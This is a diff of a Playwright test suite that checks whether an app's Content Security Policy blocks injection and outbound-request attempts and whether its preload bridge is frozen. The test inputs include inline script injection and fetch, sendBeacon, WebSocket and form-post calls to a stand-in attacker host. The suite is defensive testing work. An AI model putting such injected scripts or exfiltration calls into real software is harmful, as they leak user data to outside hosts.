@@ -17,8 +17,10 @@ function violationOf(page: Page, attempt: string): Promise<Violation | 'none'> {
         document.addEventListener('securitypolicyviolation', (event) => resolve({ directive: event.effectiveDirective, policy: event.originalPolicy }), { once: true })
         const element = document.createElement('div')
         document.body.append(element)
-        const attempts: Record<string, () => void> = {
-          eval: () => setTimeout(() => new Function('return 1')(), 0),
+        const evaluator = (): unknown => Reflect.apply(globalThis.eval, undefined, ['1'])
+        const attempts: Record<string, () => unknown> = {
+          // Later, outside the debugging protocol's own evaluation, which the policy does not stop.
+          eval: () => setTimeout(evaluator, 0),
           inlineScript: () => element.append(Object.assign(document.createElement('script'), { textContent: 'window.injected = true' })),
           inlineStyle: () => element.append(Object.assign(document.createElement('style'), { textContent: 'body { display: none }', nonce: 'guessed' })),
           styleAttribute: () => element.setAttribute('style', 'color: red'),
@@ -26,12 +28,12 @@ function violationOf(page: Page, attempt: string): Promise<Violation | 'none'> {
           dataScript: () => element.append(Object.assign(document.createElement('script'), { src: 'data:text/javascript,window.injected=true' })),
           fetch: () => void fetch('https://evil.example/').catch(() => undefined),
           fetchOwn: () => void fetch('app://bundle/index.html').catch(() => undefined),
-          beacon: () => void navigator.sendBeacon('https://evil.example/', 'x'),
-          webSocket: () => void new WebSocket('wss://evil.example/'),
+          beacon: () => navigator.sendBeacon('https://evil.example/', 'x'),
+          webSocket: () => new WebSocket('wss://evil.example/'),
           image: () => element.append(Object.assign(document.createElement('img'), { src: 'https://evil.example/x.png' })),
           frame: () => element.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' })),
           object: () => element.append(Object.assign(document.createElement('object'), { data: 'https://evil.example/' })),
-          worker: () => void new Worker('data:text/javascript,1'),
+          worker: () => new Worker('data:text/javascript,1'),
           base: () => document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' })),
           form: () => {
             const form = Object.assign(document.createElement('form'), { action: 'https://evil.example/', method: 'post' })
@@ -62,14 +64,13 @@ test.describe('the page', () => {
     const seen = await page.evaluate(() => {
       const world = globalThis as unknown as Record<string, unknown>
       const bridge = world['gatehouse'] as Record<string, unknown>
-      const values = (object: object): unknown[] => Object.values(object).flatMap((value) => (typeof value === 'object' && value !== null ? values(value) : [value]))
-      let overwritten = true
+      const values = (object: object): unknown[] => Object.values(object).flatMap((value: unknown) => (typeof value === 'object' && value !== null ? values(value) : [value]))
       try {
-        bridge['on'] = () => 1
-        overwritten = bridge['on']?.toString() === '() => 1'
+        bridge['on'] = () => 'overwritten'
       } catch {
-        overwritten = false
+        // Frozen, and strict code hears of it.
       }
+      const overwritten = String(bridge['on']).includes('overwritten')
       return {
         node: ['require', 'process', 'module', 'Buffer', 'electron', 'ipcRenderer', '__dirname'].filter((name) => world[name] !== undefined),
         kinds: [...new Set(values(bridge).map((value) => typeof value))],
